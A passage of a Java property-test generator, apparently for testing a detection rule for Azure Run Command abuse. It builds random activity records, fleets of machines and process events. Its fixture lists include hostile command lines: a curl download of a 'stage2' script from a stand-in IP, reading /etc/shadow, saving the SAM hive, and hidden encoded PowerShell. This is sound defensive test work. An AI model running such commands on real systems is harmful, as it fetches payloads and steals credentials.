package io.github.rcdetect.reference;

import io.github.rcdetect.reference.ReferenceModel.Family;
import io.github.rcdetect.reference.Scenario.ActivityRecord;
import io.github.rcdetect.reference.Scenario.ActivityShape;
import io.github.rcdetect.reference.Scenario.InventoryResource;
import io.github.rcdetect.reference.Scenario.ProcessRecord;
import io.github.rcdetect.reference.Scenario.ProcessShape;
import io.github.rcdetect.reference.Scenario.Result;
import io.github.rcdetect.reference.Scenario.Target;
import io.github.rcdetect.testing.records.TimeFormat;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.RandomDistribution;
import net.jqwik.api.Tuple;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;

/**
 * Random scenarios that crowd the edges of docs/spec.md, sections 3 and 4: a few hosts with overlapping invocations of one to
 * four records (Start, Accept, Success, Failure; a lone Failure; with and without correlation id, in any case),
 * processes at and around 0 s and 120 s after any record, script children and look-alikes (other parents, the
 * console host, fork against exec, other shells, waagent paths that almost match), case and whitespace variants,
 * {@code script<N>} with N of one to six digits, every input shape and time format.
 *
 * <p>Fleet scenarios add sections 9 and 10 to those: VMs and scale-set instances named by resource id (the machine or a
 * managed run command on it, in Azure's two spellings, in resource groups named like a type) or by name alone; guests
 * that report their VM's name, an FQDN, a computer name of their own, a scale-set prefix with the base-36 instance
 * id, or Elastic Agent's cloud metadata (another cloud's too); an inventory that lists some of them, wrongly, twice or
 * under another machine's name; invocations of both families, failed ones too; and script children of both handlers
 * with their near misses, so that v1 actions meet v2 processes and the reverse.
 */
public final class Scenarios {
    static final List<String> CORRELATION_IDS = List.of(
            "6f1d2c3b-0a9e-4b8d-9c7f-1e2d3c4b5a61",
            "a3c1e2f0-5b6d-4e7f-8a9b-0c1d2e3f4a5b",
            "0e9a8b7c-6d5e-4f3a-2b1c-0d9e8f7a6b5c",
            "C4D2E1F0-9A8B-4C7D-6E5F-4A3B2C1D0E9F",
            "f00dbabe-1234-4abc-9def-0123456789ab",
            "Bd3e4f5a-6b7c-4d8e-9f0a-1b2c3d4e5f6a");

    /** The RunAs password fleet scenarios put on the handler's command line: no alert may show it. */
    public static final String RUNAS_PASSWORD = "Winter2026!Deploy";

    private static final String WAAGENT = "/var/lib/waagent/run-command/download/";
    private static final String HANDLER = "/var/lib/waagent/run-command-handler/";
    private static final String RUNAS = "/home/deploy/waagent/run-command-handler-runas/";
    private static final String WINDOWS_HANDLER =
            "C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandHandlerWindows\\2.0.14\\Downloads\\";

    /** The plain scenarios' three VMs, each guest reporting its VM's name, and no inventory. */
    private static final Fleet VMS = new Fleet(List.of(plainVm(0), plainVm(1), plainVm(2)));

    private Scenarios() {}

    /**
     * Batches of {@code size} scenarios, each on hosts of its own, so one job run checks them all.
     *
     * @param definedTiesOnly leave out the ties docs/choices.md names no rule for (see {@link ReferenceModel})
     */
    public static Arbitrary<List<Scenario>> batches(int size, boolean definedTiesOnly) {
        return scenarios(definedTiesOnly).list().ofSize(size).map(Scenarios::onOwnHosts);
    }

    public static Arbitrary<Scenario> scenarios(boolean definedTiesOnly) {
        Mix plain = new Mix(
                Arbitraries.frequency(Tuple.of(5, 0), Tuple.of(2, 1), Tuple.of(1, 2)),
                Arbitraries.just(Family.ACTION),
                Arbitraries.just(false),
                Arbitraries.frequencyOf(
                        Tuple.of(5, windowsTemplate(powershellCommandLine())),
                        Tuple.of(4, linuxTemplate(waagentPaths()))),
                Arbitraries.just(""),
                10);
        return scenarios(VMS, plain).map(scenario -> definedTiesOnly ? withDefinedTies(scenario) : scenario);
    }

    /** Batches of {@code size} fleet scenarios, each on hosts of its own; none with a tie docs/choices.md leaves open. */
    public static Arbitrary<List<Scenario>> fleetBatches(int size) {
        return fleetScenarios().list().ofSize(size).map(Scenarios::onOwnHosts);
    }

    public static Arbitrary<Scenario> fleetScenarios() {
        Mix fleet = new Mix(
                Arbitraries.integers().between(0, 2),
                Arbitraries.of(Family.class),
                Arbitraries.of(true, false),
                Arbitraries.frequencyOf(
                        Tuple.of(3, windowsTemplate(powershellCommandLine())),
                        Tuple.of(3, linuxTemplate(waagentPaths())),
                        Tuple.of(4, linuxTemplate(handlerPaths())),
                        Tuple.of(2, windowsTemplate(handlerCommandLine())),
                        Tuple.of(1, runAsTemplate())),
                Arbitraries.frequency(
                        Tuple.of(5, ""),
                        Tuple.of(1, ".corp.contoso.com"),
                        Tuple.of(1, ".internal.cloudapp.net"),
                        Tuple.of(1, ".reddog.microsoft.com")),
                12);
        return Combinators.combine(machine(0), machine(1), machine(2))
                .as((a, b, c) -> new Fleet(List.of(a, b, c)))
                .flatMap(machines -> scenarios(machines, fleet))
                .map(Scenarios::withDefinedTies);
    }

    /**
     * What a kind of scenario draws from.
     *
     * @param machine which machine of the fleet an invocation runs on
     * @param family the family of an invocation's operation
     * @param runCommandChild whether its records name a managed run command on the machine rather than the machine
     * @param template what a process is
     * @param domain the suffix a guest reports after its name
     * @param maxProcesses at most this many processes
     */
    private record Mix(
            Arbitrary<Integer> machine,
            Arbitrary<Family> family,
            Arbitrary<Boolean> runCommandChild,
            Arbitrary<Template> template,
            Arbitrary<String> domain,
            int maxProcesses) {}

    private static Arbitrary<Scenario> scenarios(Fleet fleet, Mix mix) {
        return invocation(fleet, mix)
                .list()
                .ofMaxSize(4)
                .withSizeDistribution(RandomDistribution.uniform())
                .flatMap(invocations -> {
                    List<ActivityRecord> activity = new ArrayList<>();
                    List<Anchor> anchors = new ArrayList<>();
                    for (Planned invocation : invocations) {
                        activity.addAll(invocation.records());
                        invocation
                                .records()
                                .forEach(record -> anchors.add(new Anchor(record.at(), invocation.machine())));
                    }
                    return process(fleet, anchors, mix)
                            .list()
                            .ofMaxSize(mix.maxProcesses())
                            .withSizeDistribution(RandomDistribution.uniform())
                            .map(processes -> new Scenario(activity, processes, fleet.inventory()));
                });
    }

    /** Scenario i on hosts {@code s<i>-vm<k>}; process identities unique across the batch. */
    static List<Scenario> onOwnHosts(List<Scenario> scenarios) {
        List<Scenario> batch = new ArrayList<>();
        for (int i = 0; i < scenarios.size(); i++) {
            String prefix = "s" + i + "-";
            Scenario renamed = scenarios.get(i).renameHosts(name -> prefix + name);
            List<ProcessRecord> processes = new ArrayList<>();
            for (int j = 0; j < renamed.processes().size(); j++) {
                processes.add(renamed.processes().get(j).withIdentity(prefix + "p" + j, 1001 + 7L * j + i));
            }
            batch.add(new Scenario(renamed.activity(), processes, renamed.inventory()));
        }
        return batch;
    }

    // ---- machines -------------------------------------------------------------------------------------------------

    /**
     * One machine of a scenario: the resource its records name, the computer name its guest reports, whether Elastic
     * Agent's cloud metadata names it too, and what the inventory lists for it.
     */
    private record Machine(Target target, String computerName, Cloud cloud, List<InventoryResource> listed) {
        String resourceName() {
            return target.scaleSet() == null ? target.machine() : target.scaleSet() + "_" + target.machine();
        }
    }

    private record Fleet(List<Machine> machines) {
        List<InventoryResource> inventory() {
            List<InventoryResource> inventory = new ArrayList<>();
            machines.forEach(machine -> inventory.addAll(machine.listed()));
            return inventory;
        }
    }

    /** The cloud metadata of a guest's events: none, Azure's (with or without {@code cloud.provider}), another cloud's. */
    private enum Cloud {
        NONE(null),
        AZURE("azure"),
        NO_PROVIDER(null),
        OTHER("aws");

        final String provider;

        Cloud(String provider) {
            this.provider = provider;
        }
    }

    private static Machine plainVm(int index) {
        return new Machine(Target.vm("vm" + index), "vm" + index, Cloud.NONE, List.of());
    }

    /** Machine {@code k} of a fleet: a VM or a scale-set instance, with id {@code 0} up to the largest of six base-36 digits. */
    private static Arbitrary<Machine> machine(int k) {
        return Arbitraries.frequency(
                        Tuple.of(4, -1L),
                        Tuple.of(1, 0L),
                        Tuple.of(1, 3L),
                        Tuple.of(1, 36L),
                        Tuple.of(2, 75L),
                        Tuple.of(1, 1295L),
                        Tuple.of(1, 2_176_782_335L))
                .flatMap(instance -> instance < 0 ? vm(k) : scaleSetInstance(k, instance));
    }

    /** What the inventory lists for a VM. */
    private enum VmListing {
        NONE,
        /** The VM, under its guest's computer name. */
        LISTED,
        /** The VM, under another computer name. */
        WRONG,
        /** The VM and another one, under its guest's computer name. */
        SHARED,
        /** The VM, under the resource name of the next machine of the fleet. */
        OTHERS_NAME
    }

    /** What the inventory lists for a scale-set instance. */
    private enum InstanceListing {
        NONE,
        /** Its scale set, with the prefix its guest's computer name starts with. */
        PREFIX,
        /** The instance as a scale-set VM, under its guest's computer name. */
        INSTANCE,
        /** The instance as a scale-set VM, and another scale set with the prefix its guest's name starts with. */
        INSTANCE_AND_OTHER_PREFIX,
        /** Its scale set, with another prefix. */
        WRONG_PREFIX,
        /** Its scale set and another one, with the same prefix. */
        SHARED_PREFIX
    }

    /** VM {@code k}, whose name may hold a dot (Linux VM names may), as its guest's computer name then does. */
    private static Arbitrary<Machine> vm(int k) {
        return Arbitraries.frequency(Tuple.of(5, "vm" + k), Tuple.of(2, "vm" + k + ".prod"))
                .flatMap(name -> vm(k, name));
    }

    private static Arbitrary<Machine> vm(int k, String name) {
        Arbitrary<String> computerName = Arbitraries.frequency(Tuple.of(4, name), Tuple.of(3, "guest" + k));
        Arbitrary<VmListing> listing = Arbitraries.frequency(
                Tuple.of(3, VmListing.NONE),
                Tuple.of(4, VmListing.LISTED),
                Tuple.of(1, VmListing.WRONG),
                Tuple.of(1, VmListing.SHARED),
                Tuple.of(1, VmListing.OTHERS_NAME));
        return Combinators.combine(
                        target(null, name), computerName, cloud(), listing, Arbitraries.of(Casing.class), shapes())
                .as((target, computer, cloud, list, casing, graph) -> {
                    Target listed = new Target(null, name, null, target.group(), false);
                    List<InventoryResource> entries = switch (list) {
                        case NONE -> List.of();
                        case LISTED -> List.of(new InventoryResource(listed, casing.apply(computer), graph));
                        case WRONG -> List.of(new InventoryResource(listed, "other" + k, graph));
                        case SHARED ->
                            List.of(
                                    new InventoryResource(listed, casing.apply(computer), graph),
                                    new InventoryResource(
                                            new Target(null, "spare" + k, null, target.group(), false),
                                            computer,
                                            graph));
                        case OTHERS_NAME -> List.of(new InventoryResource(listed, "vm" + (k + 1) % 3, graph));
                    };
                    return new Machine(target, computer, cloud, entries);
                });
    }

    /**
     * Instance {@code id} of scale set {@code ss<k>}; its guest named by a prefix (the scale set's name, or another)
     * and the id in base 36, six digits, as Uniform orchestration names it, or by a computer name of its own.
     */
    private static Arbitrary<Machine> scaleSetInstance(int k, long id) {
        String scaleSet = "ss" + k;
        String digits = Long.toString(id, 36);
        String suffix = "0".repeat(6 - digits.length()) + digits;
        Arbitrary<String> prefix = Arbitraries.of(scaleSet, "front" + k);
        // Unpadded digits name no instance; a computer name of its own is Flexible orchestration's.
        Arbitrary<String> ending = Arbitraries.frequency(Tuple.of(6, suffix), Tuple.of(1, digits), Tuple.of(1, ""));
        Arbitrary<InstanceListing> listing = Arbitraries.frequency(
                Tuple.of(2, InstanceListing.NONE),
                Tuple.of(4, InstanceListing.PREFIX),
                Tuple.of(2, InstanceListing.INSTANCE),
                Tuple.of(1, InstanceListing.INSTANCE_AND_OTHER_PREFIX),
                Tuple.of(1, InstanceListing.WRONG_PREFIX),
                Tuple.of(1, InstanceListing.SHARED_PREFIX));
        return Combinators.combine(
                        target(scaleSet, Long.toString(id)),
                        prefix,
                        ending,
                        cloud(),
                        listing,
                        Arbitraries.of(Casing.class),
                        shapes())
                .as((target, p, end, cloud, list, casing, graph) -> {
                    String computer = end.isEmpty() ? "guest" + k : p + end;
                    Target set = new Target(scaleSet, null, null, target.group(), false);
                    Target spare = new Target("spare" + k, null, null, target.group(), false);
                    Target instance = new Target(scaleSet, Long.toString(id), null, target.group(), false);
                    List<InventoryResource> entries = switch (list) {
                        case NONE -> List.of();
                        case PREFIX -> List.of(new InventoryResource(set, casing.apply(p), graph));
                        case INSTANCE -> List.of(new InventoryResource(instance, casing.apply(computer), graph));
                        case INSTANCE_AND_OTHER_PREFIX ->
                            List.of(
                                    new InventoryResource(instance, casing.apply(computer), graph),
                                    new InventoryResource(spare, p, graph));
                        case WRONG_PREFIX -> List.of(new InventoryResource(set, "other" + k, graph));
                        case SHARED_PREFIX ->
                            List.of(new InventoryResource(set, p, graph), new InventoryResource(spare, p, graph));
                    };
                    return new Machine(target, computer, cloud, entries);
                });
    }

    /** The machine as its records name it: mostly by resource id, in a group that may be named like a type. */
    private static Arbitrary<Target> target(String scaleSet, String machine) {
        Arbitrary<String> group =
                Arbitraries.frequency(Tuple.of(8, "prod-rg"), Tuple.of(1, "virtualMachines"), Tuple.of(1, "providers"));
        Arbitrary<Boolean> byName = Arbitraries.frequency(Tuple.of(5, false), Tuple.of(1, true));
        return Combinators.combine(group, byName).as((g, name) -> new Target(scaleSet, machine, null, g, name));
    }

    private static Arbitrary<Cloud> cloud() {
        return Arbitraries.frequency(
                Tuple.of(6, Cloud.NONE),
                Tuple.of(3, Cloud.AZURE),
                Tuple.of(1, Cloud.NO_PROVIDER),
                Tuple.of(1, Cloud.OTHER));
    }

    /** Whether an inventory entry comes in Resource Graph's shape or the az CLI's. */
    private static Arbitrary<Boolean> shapes() {
        return Arbitraries.of(true, false);
    }

    // ---- activity -------------------------------------------------------------------------------------------------

    private enum Spelling {
        AS_IS,
        UPPER,
        LOWER
    }

    private enum Casing {
        LOWER,
        UPPER,
        CAPITALIZED;

        String apply(String name) {
            return switch (this) {
                case LOWER -> name.toLowerCase(Locale.ROOT);
                case UPPER -> name.toUpperCase(Locale.ROOT);
                case CAPITALIZED ->
                    name.substring(0, 1).toUpperCase(Locale.ROOT)
                            + name.substring(1).toLowerCase(Locale.ROOT);
            };
        }
    }

    /** Which operation a record is, against its invocation's family: mostly the family's own, in Azure's spellings. */
    private enum Operation {
        OWN,
        OWN_IN_ARM_CASE,
        OWN_IN_LOWER_CASE,
        DEALLOCATE,
        OTHER_FAMILY;

        String name(Family family, boolean scaleSet) {
            String machine = scaleSet ? "virtualMachineScaleSets/virtualMachines" : "virtualMachines";
            return switch (this) {
                case OWN -> armCase(family, machine).toUpperCase(Locale.ROOT);
                case OWN_IN_ARM_CASE -> armCase(family, machine);
                case OWN_IN_LOWER_CASE -> armCase(family, machine).toLowerCase(Locale.ROOT);
                case DEALLOCATE -> ("Microsoft.Compute/" + machine + "/deallocate/action").toUpperCase(Locale.ROOT);
                case OTHER_FAMILY ->
                    armCase(family == Family.ACTION ? Family.MANAGED : Family.ACTION, machine)
                            .toUpperCase(Locale.ROOT);
            };
        }

        private static String armCase(Family family, String machine) {
            return "Microsoft.Compute/" + machine
                    + (family == Family.ACTION ? "/runCommand/action" : "/runCommands/write");
        }
    }

    private record RecordPlan(
            Result result,
            long offset,
            Spelling spelling,
            boolean namesCaller,
            Operation operation,
            ActivityShape shape,
            TimeFormat timeFormat,
            Casing vmCasing) {}

    /** An invocation's records and the machine of the fleet they name. */
    private record Planned(int machine, List<ActivityRecord> records) {}

    /**
     * The records of one invocation: the first at the invocation's time, the others up to 150 s later. A machine
     * named by name alone is named so in the ECS shapes only, and in one spelling.
     */
    private static Arbitrary<Planned> invocation(Fleet fleet, Mix mix) {
        Arbitrary<Long> at = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.longs().between(0, 300_000)),
                // Few distinct values, so invocations often share a millisecond or lie 120 s apart.
                Tuple.of(2, Arbitraries.of(0L, 1L, 60_000L, 120_000L, 120_001L, 240_000L)));
        Arbitrary<String> correlationId = Arbitraries.of(CORRELATION_IDS).injectNull(0.2);
        Arbitrary<String> caller =
                Arbitraries.of("mallory@contoso.com", "svc-deploy@contoso.com").injectNull(0.15);
        Arbitrary<List<RecordPlan>> plans =
                recordPlan().list().ofMinSize(1).ofMaxSize(4).withSizeDistribution(RandomDistribution.uniform());
        return Combinators.combine(mix.machine(), at, correlationId, caller, plans, mix.family(), mix.runCommandChild())
                .as((h, t, id, email, recordPlans, family, child) -> {
                    Machine machine = fleet.machines().get(h);
                    Target named = child
                            ? new Target(
                                    machine.target().scaleSet(),
                                    machine.target().machine(),
                                    "rc-" + family.name().toLowerCase(Locale.ROOT),
                                    machine.target().group(),
                                    machine.target().byName())
                            : machine.target();
                    List<ActivityRecord> records = new ArrayList<>();
                    for (int i = 0; i < recordPlans.size(); i++) {
                        RecordPlan plan = recordPlans.get(i);
                        boolean byName = named.byName();
                        records.add(new ActivityRecord(
                                t + (i == 0 ? 0 : plan.offset()),
                                byName ? named : named.withName(plan.vmCasing()::apply),
                                plan.operation().name(family, named.scaleSet() != null),
                                id == null ? null : spell(id, plan.spelling()),
                                plan.result(),
                                plan.namesCaller() ? email : null,
                                byName && plan.shape() == ActivityShape.RAW ? ActivityShape.ECS_NESTED : plan.shape(),
                                plan.timeFormat()));
                    }
                    return new Planned(h, records);
                });
    }

    private static Arbitrary<RecordPlan> recordPlan() {
        Arbitrary<Result> result = Arbitraries.frequency(
                Tuple.of(5, Result.START),
                Tuple.of(2, Result.ACCEPT),
                Tuple.of(2, Result.SUCCESS),
                Tuple.of(2, Result.FAILURE));
        Arbitrary<Long> offset = Arbitraries.frequencyOf(
                Tuple.of(2, Arbitraries.just(0L)),
                Tuple.of(3, Arbitraries.longs().between(1, 2_000)),
                Tuple.of(3, Arbitraries.longs().between(2_000, 150_000)));
        Arbitrary<Spelling> spelling = Arbitraries.frequency(
                Tuple.of(6, Spelling.AS_IS), Tuple.of(1, Spelling.UPPER), Tuple.of(1, Spelling.LOWER));
        Arbitrary<Boolean> namesCaller = Arbitraries.frequency(Tuple.of(5, true), Tuple.of(1, false));
        Arbitrary<Operation> operation = Arbitraries.frequency(
                Tuple.of(12, Operation.OWN),
                Tuple.of(2, Operation.OWN_IN_ARM_CASE),
                Tuple.of(1, Operation.OWN_IN_LOWER_CASE),
                Tuple.of(1, Operation.DEALLOCATE),
                Tuple.of(1, Operation.OTHER_FAMILY));
        Arbitrary<ActivityShape> shape = Arbitraries.frequency(
                Tuple.of(4, ActivityShape.RAW),
                Tuple.of(1, ActivityShape.ECS_NESTED),
                Tuple.of(1, ActivityShape.ECS_DOTTED));
        return Combinators.combine(
                        result,
                        offset,
                        spelling,
                        namesCaller,
                        operation,
                        shape,
                        timeFormat(),
                        Arbitraries.of(Casing.class))
                .as(RecordPlan::new);
    }

    private static Arbitrary<TimeFormat> timeFormat() {
        return Arbitraries.frequency(
                Tuple.of(4, TimeFormat.MILLIS_Z),
                Tuple.of(2, TimeFormat.AZURE_7_DIGITS),
                Tuple.of(1, TimeFormat.NANOS_9_DIGITS),
                Tuple.of(1, TimeFormat.PLUS_TWO_HOURS),
                Tuple.of(1, TimeFormat.EPOCH_MILLIS));
    }

    private static String spell(String id, Spelling spelling) {
        return switch (spelling) {
            case AS_IS -> id;
            case UPPER -> id.toUpperCase(Locale.ROOT);
            case LOWER -> id.toLowerCase(Locale.ROOT);
        };
    }

    // ---- processes ------------------------------------------------------------------------------------------------

    /** What a process event says, apart from when and where. */
    private record Template(
            ProcessShape shape,
            String action,
            List<String> eventType,
            String name,
            String commandLine,
            String parentName,
            String parentCommandLine,
            List<String> parentArgs) {}

    /** A time and the fleet's machine there, for a process to happen near. */
    private record Anchor(long at, int machine) {}

    /**
     * A process near one of the scenario's records: mostly on its machine and within -5..125 s of it; named as its
     * guest reports itself, in any case, with a domain suffix now and then, and with the agent's cloud metadata where
     * the machine has it.
     */
    private static Arbitrary<ProcessRecord> process(Fleet fleet, List<Anchor> anchors, Mix mix) {
        Arbitrary<Anchor> anchor = anchors.isEmpty() ? Arbitraries.just(new Anchor(0, 0)) : Arbitraries.of(anchors);
        Arbitrary<Long> delay = Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.longs().between(-5_000, 125_000)),
                Tuple.of(4, Arbitraries.of(0L, 1L, -1L, 119_999L, 120_000L, 120_001L)),
                Tuple.of(1, Arbitraries.longs().between(-200_000, 300_000)));
        Arbitrary<Integer> otherHost =
                Arbitraries.frequency(Tuple.of(9, -1), Tuple.of(1, 0), Tuple.of(1, 1), Tuple.of(1, 2));
        return Combinators.combine(
                        anchor,
                        delay,
                        otherHost,
                        Arbitraries.of(Casing.class),
                        mix.template(),
                        timeFormat(),
                        mix.domain())
                .as((near, d, other, casing, t, format, domain) -> {
                    Machine machine = fleet.machines().get(other >= 0 ? other : near.machine());
                    boolean cloud = machine.cloud() != Cloud.NONE;
                    return new ProcessRecord(
                            near.at() + d,
                            casing.apply(machine.computerName()) + domain,
                            cloud ? casing.apply(machine.resourceName()) : null,
                            cloud ? machine.cloud().provider : null,
                            t.shape(),
                            t.action(),
                            t.eventType(),
                            t.name(),
                            t.commandLine(),
                            t.parentName(),
                            t.parentCommandLine(),
                            t.parentArgs(),
                            "unnumbered",
                            0,
                            format);
                });
    }

    private static final List<List<String>> WINDOWS_CHILDREN = List.of(
            List.of("whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all"),
            List.of("net.exe", "\"C:\\Windows\\system32\\net.exe\" user /domain"),
            List.of("cmd.exe", "C:\\Windows\\system32\\cmd.exe /c \"net localgroup administrators\""),
            List.of("ipconfig.exe", "ipconfig /all"),
            List.of("reg.exe", "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv"),
            List.of("conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
            List.of("CONHOST.EXE", "conhost.exe 0x4"),
            List.of("notepad.exe", "notepad.exe C:\\Users\\Público\\ñ.txt"),
            List.of("powershell.exe", "powershell -nop -w hidden -enc SQBFAFgA"));

    /** A Windows process under a parent whose command line is one of {@code parentCommandLines}. */
    private static Arbitrary<Template> windowsTemplate(Arbitrary<String> parentCommandLines) {
        Arbitrary<ProcessShape> shape = Arbitraries.frequency(
                Tuple.of(5, ProcessShape.DEFEND),
                Tuple.of(1, ProcessShape.DEFEND_DOTTED),
                Tuple.of(2, ProcessShape.SYSMON_INGEST),
                Tuple.of(2, ProcessShape.SYSMON_WINLOGBEAT));
        Arbitrary<String> action = Arbitraries.frequency(Tuple.of(8, "start"), Tuple.of(1, "end"), Tuple.of(1, "exec"));
        Arbitrary<List<String>> startTypes = Arbitraries.frequency(
                Tuple.of(6, List.of("start")),
                Tuple.of(1, List.of("process_started")),
                Tuple.of(1, List.of("info", "start")));
        Arbitrary<String> parentName = Arbitraries.frequency(
                Tuple.of(10, "powershell.exe"),
                Tuple.of(2, "PowerShell.exe"),
                Tuple.of(1, "POWERSHELL.EXE"),
                Tuple.of(1, "pwsh.exe"),
                Tuple.of(1, "powershell"),
                Tuple.of(1, "cmd.exe"),
                Tuple.of(1, "explorer.exe"));
        return Combinators.combine(
                        shape, action, startTypes, Arbitraries.of(WINDOWS_CHILDREN), parentName, parentCommandLines)
                .as((s, a, types, child, parent, parentCommandLine) -> {
                    boolean sysmon = s == ProcessShape.SYSMON_INGEST || s == ProcessShape.SYSMON_WINLOGBEAT;
                    String eventAction = sysmon ? "start" : a;
                    return new Template(
                            s,
                            eventAction,
                            sysmon ? List.of("start") : eventAction.equals("end") ? List.of("end") : types,
                            child.get(0),
                            child.get(1),
                            parent,
                            parentCommandLine,
                            List.of());
                });
    }

    private enum Mutation {
        NONE,
        NO_DIGITS,
        LETTER_FOR_DIGITS,
        BYPASS_POLICY,
        EXTRA_ARGUMENT,
        EXE_SUFFIX,
        TRAILING_CHARACTER,
        NO_DOT
    }

    /**
     * The agent's command line with random case per word, random runs of spaces and tabs between and around the
     * words, N of one to six digits; one in three is a look-alike that must not match.
     */
    private static Arbitrary<String> powershellCommandLine() {
        Arbitrary<List<Integer>> wordCases =
                Arbitraries.integers().between(0, 7).list().ofSize(5);
        Arbitrary<List<String>> gaps = Arbitraries.frequency(
                        Tuple.of(6, " "), Tuple.of(2, "  "), Tuple.of(1, "\t"), Tuple.of(1, " \t "))
                .list()
                .ofSize(5);
        Arbitrary<String> leading = Arbitraries.frequency(Tuple.of(8, ""), Tuple.of(1, " "), Tuple.of(1, "\t"));
        Arbitrary<String> trailing = Arbitraries.frequency(Tuple.of(7, ""), Tuple.of(2, " "), Tuple.of(1, "  "));
        Arbitrary<String> number = Arbitraries.of("0", "1", "2", "9", "10", "12", "99", "007", "123456");
        Arbitrary<Mutation> mutation = Arbitraries.frequencyOf(
                Tuple.of(14, Arbitraries.just(Mutation.NONE)), Tuple.of(7, Arbitraries.of(Mutation.class)));
        return Combinators.combine(wordCases, gaps, leading, trailing, number, mutation)
                .as((cases, spaces, lead, trail, n, change) -> {
                    List<String> words = new ArrayList<>(
                            List.of("powershell", "-ExecutionPolicy", "Unrestricted", "-File", "script" + n + ".ps1"));
                    switch (change) {
                        case NO_DIGITS -> words.set(4, "script.ps1");
                        case LETTER_FOR_DIGITS -> words.set(4, "scriptA.ps1");
                        case BYPASS_POLICY -> words.set(2, "Bypass");
                        case EXTRA_ARGUMENT -> words.add("-NoProfile");
                        case EXE_SUFFIX -> words.set(0, "powershell.exe");
                        case TRAILING_CHARACTER -> words.set(4, words.get(4) + "x");
                        case NO_DOT -> words.set(4, "script" + n + "ps1");
                        case NONE -> {}
                    }
                    StringBuilder line = new StringBuilder(lead);
                    for (int i = 0; i < words.size(); i++) {
                        if (i > 0) {
                            line.append(spaces.get(i - 1));
                        }
                        String word = words.get(i);
                        int wordCase = cases.get(Math.min(i, cases.size() - 1));
                        line.append(
                                wordCase == 6
                                        ? word.toLowerCase(Locale.ROOT)
                                        : wordCase == 7 ? word.toUpperCase(Locale.ROOT) : word);
                    }
                    return line.append(trail).toString();
                });
    }

    /**
     * The managed handler's PowerShell on a script in its plugin folder, in the spellings and with the options nothing
     * documents; and look-alikes: the v1 extension's folder, the handler's name outside {@code \Packages\Plugins\},
     * forward slashes, the v1 agent's own script.
     */
    private static Arbitrary<String> handlerCommandLine() {
        return Arbitraries.frequency(
                Tuple.of(4, "powershell -ExecutionPolicy Unrestricted -File " + WINDOWS_HANDLER + "script0.ps1"),
                Tuple.of(
                        2,
                        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -NonInteractive"
                                + " -ExecutionPolicy Bypass -File \"" + WINDOWS_HANDLER + "rc-managed-0.ps1\""),
                Tuple.of(1, ("powershell.exe -File " + WINDOWS_HANDLER + "script1.ps1").toLowerCase(Locale.ROOT)),
                Tuple.of(1, ("powershell -Command & '" + WINDOWS_HANDLER + "script0.ps1'").toUpperCase(Locale.ROOT)),
                Tuple.of(
                        1,
                        "powershell -ExecutionPolicy Unrestricted -File"
                                + " C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.18\\Downloads\\script0.ps1"),
                Tuple.of(1, "powershell -File C:\\Temp\\Microsoft.CPlat.Core.RunCommandHandlerWindows\\script0.ps1"),
                Tuple.of(1, "powershell -File " + WINDOWS_HANDLER.replace('\\', '/') + "script0.ps1"),
                Tuple.of(1, "powershell -ExecutionPolicy Unrestricted -File script3.ps1"));
    }

    private static final List<List<String>> LINUX_CHILDREN = List.of(
            List.of("curl", "curl -fsSL http://198.51.100.23/stage2.sh -o /tmp/.s"),
            List.of("chmod", "chmod +x /tmp/.s"),
            List.of("bash", "bash"),
            List.of("id", "id"),
            List.of("cat", "cat /etc/shadow"),
            List.of("python3", "python3 -c 'print(\"\u2028\")'"));

    private enum ArgsLayout {
        SHELL_AND_PATH,
        PATH_ONLY,
        DASH_C,
        ONE_STRING,
        NONE
    }

    /** A Linux process under a parent that runs one of {@code paths}. */
    private static Arbitrary<Template> linuxTemplate(Arbitrary<String> paths) {
        Arbitrary<ProcessShape> shape =
                Arbitraries.frequency(Tuple.of(5, ProcessShape.DEFEND), Tuple.of(1, ProcessShape.DEFEND_DOTTED));
        Arbitrary<String> action = Arbitraries.frequency(Tuple.of(6, "exec"), Tuple.of(2, "fork"), Tuple.of(1, "end"));
        Arbitrary<String> shell = Arbitraries.frequency(
                Tuple.of(4, "bash"),
                Tuple.of(2, "sh"),
                Tuple.of(2, "dash"),
                Tuple.of(1, "zsh"),
                Tuple.of(1, "ksh"),
                Tuple.of(1, "busybox"),
                Tuple.of(1, "fish"),
                Tuple.of(1, "tcsh"),
                Tuple.of(1, "Bash"),
                Tuple.of(1, "python3"));
        Arbitrary<ArgsLayout> layout = Arbitraries.frequency(
                Tuple.of(5, ArgsLayout.SHELL_AND_PATH),
                Tuple.of(2, ArgsLayout.PATH_ONLY),
                Tuple.of(1, ArgsLayout.DASH_C),
                Tuple.of(1, ArgsLayout.ONE_STRING),
                Tuple.of(1, ArgsLayout.NONE));
        return Combinators.combine(shape, action, Arbitraries.of(LINUX_CHILDREN), shell, paths, layout)
                .as((s, a, child, parent, script, argsLayout) -> {
                    List<String> args = switch (argsLayout) {
                        case SHELL_AND_PATH -> List.of(parent, script);
                        case PATH_ONLY -> List.of(script);
                        case DASH_C -> List.of(parent, "-c", script);
                        case ONE_STRING -> List.of(parent + " " + script);
                        case NONE -> List.of();
                    };
                    return new Template(
                            s,
                            a,
                            a.equals("end") ? List.of("end") : List.of("start"),
                            child.get(0),
                            child.get(1),
                            parent,
                            parent + " " + script,
                            args);
                });
    }

    /** The v1 agent's script path, and paths that almost are it. */
    private static Arbitrary<String> waagentPaths() {
        return Arbitraries.frequency(
                Tuple.of(6, WAAGENT + "0/script.sh"),
                Tuple.of(2, WAAGENT + "17/script.sh"),
                Tuple.of(1, WAAGENT + "/script.sh"),
                Tuple.of(1, WAAGENT + "a/b/script.sh"),
                Tuple.of(1, WAAGENT + "script.sh"),
                Tuple.of(1, WAAGENT + "1/script.sh.bak"),
                Tuple.of(1, "/var/lib/WAAgent/run-command/download/1/script.sh"),
                Tuple.of(1, WAAGENT + "1/Script.sh"),
                Tuple.of(1, "/tmp/script.sh"));
    }

    /**
